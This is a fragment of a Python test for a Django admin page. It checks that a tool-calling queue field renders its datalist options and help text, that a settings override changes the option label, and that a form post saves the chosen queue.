    tool = make_tool("t_queue")
    url = reverse("admin:tool_calling_tool_change", args=[tool.pk])
    html = admin_client.get(url).content.decode()
    assert 'list="id_queue_queues"' in html
    assert (
        '<datalist id="id_queue_queues">'
        '<option value="tool_calling" label="threads: tools that wait on the network (default)">'
        "</option>"
        '<option value="tool_calling_processes" label="processes: CPU-heavy or untrusted tools">'
        "</option></datalist>"
    ) in html
    assert (
        "Blank: tool_calling, where the calls wait on the network in a worker's threads. "
        "tool_calling_processes: a process of its own per call, for CPU-heavy or untrusted code"
    ) in html

    execution = {**settings.TOOL_CALLING.get("EXECUTION", {}), "PROCESS_QUEUE": "heavy"}
    with override_settings(TOOL_CALLING={**settings.TOOL_CALLING, "EXECUTION": execution}):
        html = admin_client.get(url).content.decode()
    assert '<option value="heavy" label="processes: CPU-heavy or untrusted tools">' in html
    assert "heavy: a process of its own per call" in html

    data = {
        "enabled": "on",
        "execution_mode": "celery",
        "queue": "tool_calling_processes",
        "timeout": "",
        "quota_window": "60",
        "retries": "0",
        "retry_backoff": "1.0",
        "limit_override-TOTAL_FORMS": "0",
        "limit_override-INITIAL_FORMS": "0",
        "limit_override-MIN_NUM_FORMS": "0",
        "limit_override-MAX_NUM_FORMS": "1",
    }
    response = admin_client.post(url, data)
    assert response.status_code == 302, response.context and response.context["errors"]
    tool.refresh_from_db()
    assert tool.queue == "tool_calling_processes"
